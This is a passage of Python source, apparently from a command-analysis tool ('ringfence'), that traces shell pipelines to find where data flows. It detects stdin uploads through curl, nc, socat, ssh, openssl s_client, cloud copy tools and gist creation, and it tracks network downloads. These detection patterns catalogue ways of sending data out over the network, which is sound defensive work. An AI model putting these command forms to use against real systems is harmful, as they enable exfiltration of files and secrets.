        if "--ignore-stdin" in args or "-I" in args:
            return None
        return _curl_url(args)
    if name in _STDIN_SOCKETS:
        if name == "ssh" and "-n" in args:
            return None
        values = (
            _SSH_VALUES if name == "ssh" else _NC_VALUES if name in ("nc", "ncat", "netcat", "telnet") else frozenset()
        )
        host = _first_operand(args, values)
        if host is None and name in ("nc", "ncat", "netcat") and any(a.startswith("-") and "l" in a for a in args):
            return "listener"  # nc -l: served to whoever connects
        return host
    if name == "socat":
        operands = [a for a in args if not a.startswith("-") or a == "-"]
        remote = [
            a for a in operands if a.upper().split(":", 1)[0] not in ("-", "STDIN", "STDIO", "OPEN", "FILE", "EXEC")
        ]
        return remote[0] if remote else None
    if name == "openssl" and "s_client" in args:
        k = args.index("-connect") if "-connect" in args else -1
        return args[k + 1] if 0 <= k < len(args) - 1 else "s_client"
    if name in ("scp", "rsync", "sftp") and any(a in ("/dev/stdin", "/dev/fd/0") for a in args):
        return next((a for a in args if ":" in a and not a.startswith("-")), name)
    if name == "aws" and args[:2] == ("s3", "cp") and "-" in args[2:4]:
        return next((a for a in args if a.startswith("s3://")), "s3")
    if name == "gsutil" and "cp" in args and "-" in args:
        return next((a for a in args if a.startswith("gs://")), "gs")
    if name == "rclone" and args[:1] == ("rcat",) and len(args) > 1:
        return args[1]
    if name == "gh" and args[:2] == ("gist", "create"):
        files = [a for a in args[2:] if not a.startswith("-")]
        return "gist" if not files or "-" in files else None
    return None


def _first_operand(args: tuple[str, ...], with_value: frozenset[str]) -> str | None:
    skip = False
    for a in args:
        if skip:
            skip = False
        elif a.startswith("-") and len(a) > 1:
            skip = a in with_value
        else:
            return a
    return None


def _curl_sends_stdin(args: tuple[str, ...]) -> bool:
    """``-d @-``, ``--data-binary @-``, ``-F f=@-``, ``-T -``, ``--upload-file .``, ``-sd@-``..."""
    for k, a in enumerate(args):
        nxt = args[k + 1] if k + 1 < len(args) else ""
        if a.startswith("--"):
            if a in ("--upload-file",) and nxt in ("-", ".", "/dev/stdin"):
                return True
            if a.startswith(("--data", "--json", "--form")) and _curl_stdin_value(nxt):
                return True
            continue
        if not a.startswith("-"):
            continue
        for p, ch in enumerate(a[1:], start=2):
            if ch in "dFT":
                value = a[p:] or nxt
                if (ch == "T" and value in ("-", ".", "/dev/stdin")) or (ch != "T" and _curl_stdin_value(value)):
                    return True
                break
            if ch in _CURL_SHORT_VALUES:
                break
    return False


def _curl_stdin_value(value: str) -> bool:
    return (
        value in _CURL_STDIN_BODIES
        or value.endswith(("=@-", "=<-", "=@/dev/stdin", "=</dev/stdin"))
        or (value.endswith("@-") and "=" not in value)
    )


def _curl_url(args: tuple[str, ...]) -> str:
    url = next((a for a in args if "://" in a), None)
    if url is not None:
        return url
    operands = [a for a in args if not a.startswith(("-", "@")) and "=" not in a and not a.isupper()]
    return operands[-1] if operands else "(unknown)"


_CURL_SHORT_VALUES = frozenset("dHXuAewxmbcFTKECrYyzDoQ")
_WGET_SHORT_VALUES = frozenset("oaeiBtOTwQPUlARDXI")


def _download_targets(cmd: Command) -> list[str]:
    """The files ``curl -o F``/``-O`` or ``wget [-O F]`` save a download to."""
    args = cmd.args
    curl = cmd.name == "curl"
    save, remote_name = ("o", "O") if curl else ("O", "")
    takes_value = _CURL_SHORT_VALUES if curl else _WGET_SHORT_VALUES
    out: list[str] = []
    by_url = not curl  # wget saves under the URL's name unless -O is given
    for k, a in enumerate(args):
        nxt = args[k + 1] if k + 1 < len(args) else None
        if a.startswith("--"):
            name, _, value = a.partition("=")
            if name in ("--output", "--output-document") and (value or nxt):
                out.append(value or nxt or "")
                by_url = False
            elif name in ("--remote-name", "--remote-name-all"):
                by_url = True
            continue
        if not a.startswith("-") or a == "-":
            continue
        for p, ch in enumerate(a[1:], start=2):  # a clustered short option: -sSLo FILE
            if ch == remote_name:
                by_url = True
            elif ch == save:
                target = a[p:] or nxt
                if target:
                    out.append(target)
                    by_url = False
                break
            elif ch in takes_value:
                break
    if by_url:
        out.extend(u.split("?", 1)[0].rstrip("/").rsplit("/", 1)[-1] for u in args if "://" in u)
    return [f for f in out if f and f != "-"]


def _static_output(ran: list[Command], ctx: Context, cwd: str) -> str | None:
    """What a substitution prints, when that is knowable without running it."""
    if len(ran) != 1:
        return None
    cmd = ran[0]
    if cmd.dynamic and cmd.name not in ("which",):
        return None
    name, args = cmd.name, cmd.args
    if name == "echo":
        words = [a for a in args if a not in ("-n", "-e", "-E")]
        return " ".join(words) + "\n"
    if name == "printf" and args and "%" not in args[0]:
        return args[0].replace("\\n", "\n").replace("\\t", "\t")
    if name == "printf" and args and args[0] in ("%s", "%s\\n", "%s\n"):
        return "".join(args[1:])
    if name in ("which", "type") and args:
        return args[-1]
    if name == "command" and len(args) >= 2 and args[0] in ("-v", "-V"):
        return args[1]
    if name == "pwd":
        return cwd or ctx.cwd
    if name in ("dirname", "basename") and len(args) in (1, 2) and not args[0].startswith("-"):
        # pure string functions: `cd "$(dirname "$0")"` in a script
        path = args[0].rstrip("/") or "/"
        if name == "dirname":
            return (path.rsplit("/", 1)[0] or "/" if "/" in path else ".") + "\n"
        base = path.rsplit("/", 1)[-1]
        if len(args) == 2 and base.endswith(args[1]) and base != args[1]:
            base = base[: -len(args[1])]
        return base + "\n"
    if name == "git" and "--show-toplevel" in args and ctx.workspace:
        return ctx.workspace
    if name == "cat" and cmd.stdin is not None and not args:
        return cmd.stdin
    return None


def _output_of(cmd: Command, feed: Feed | None, walker: _Walker) -> Feed:
    """What flows out of ``cmd`` into the next pipeline stage."""
    name = cmd.name
    if name in NETWORK_FETCHERS:
        return Feed(None, "net")
    if name in ("echo", "printf"):
        text = _static_output([cmd], walker.ctx, cmd.cwd)
        return Feed(text, "echo") if text is not None and not cmd.dynamic else Feed(None, "unknown")
    if name in DECODERS and name not in ("cat",):
        if feed is not None and feed.source == "net":
            return Feed(None, "net")
        return Feed(None, "decoded")
    if name in PASS_THROUGH:
        if name == "cat" and cmd.args:
            files = [a for a in cmd.args if not a.startswith("-")]
            if len(files) == 1 and 1 not in cmd.dynamic:
                return Feed(walker.read_file(Word(files[0]), cmd.cwd or None), "file")
            return Feed(None, "unknown")
        if feed is not None and name in ("cat", "tee", "pv", "dd"):
            return feed
        if feed is not None and feed.source == "net":
            return Feed(None, "net")
        return Feed(None, "unknown")
    return Feed(None, "unknown")


# -- public entry points ---------------------------------------------------------------------


def trace_shell(source: str, ctx: Context) -> Trace:
    """Parse ``source`` and return every command it would run, with their effects.

    Raises :class:`AnalysisLimit` when a bound is exceeded.
    """
    trace = Trace()
    walker = _Walker(ctx, trace)
    scope = Scope(cwd=ctx.cwd)
    try:
        walker.walk_source(source, scope, (), None, 0)
    except RecursionError:
        raise AnalysisLimit("command nests too deeply to analyse") from None
    return trace


def trace_powershell(source: str, ctx: Context) -> Trace:
    """Like :func:`trace_shell`, for PowerShell code: its statements as the commands
    they run (see :func:`ringfence.analyze.interp.analyse`), each walked like shell."""
    if len(source.encode("utf-8", "surrogatepass")) > ctx.config.max_command_bytes:
        raise AnalysisLimit(
            f"command is {len(source.encode('utf-8', 'surrogatepass'))} bytes; "
            f"the analysis limit is {ctx.config.max_command_bytes}"
        )
    trace = Trace()
    walker = _Walker(ctx, trace)
    st = _State(Scope(cwd=ctx.cwd), (), None, 0)
    try:
        walker.interpreted(("powershell", source), ["pwsh"], st, (), None, ctx.cwd, source)
    except RecursionError:
        raise AnalysisLimit("command nests too deeply to analyse") from None
    return trace


def analyze_shell(source: str, ctx: Context) -> list[Effect]:
    """The effects of running ``source`` in a shell (see :func:`trace_shell`)."""
    return trace_shell(source, ctx).effects


def iter_commands(source: str, ctx: Context) -> Iterator[Command]:
    yield from trace_shell(source, ctx).commands


__all__ = ["UNKNOWN_CWD", "Trace", "analyze_shell", "iter_commands", "trace_powershell", "trace_shell"]
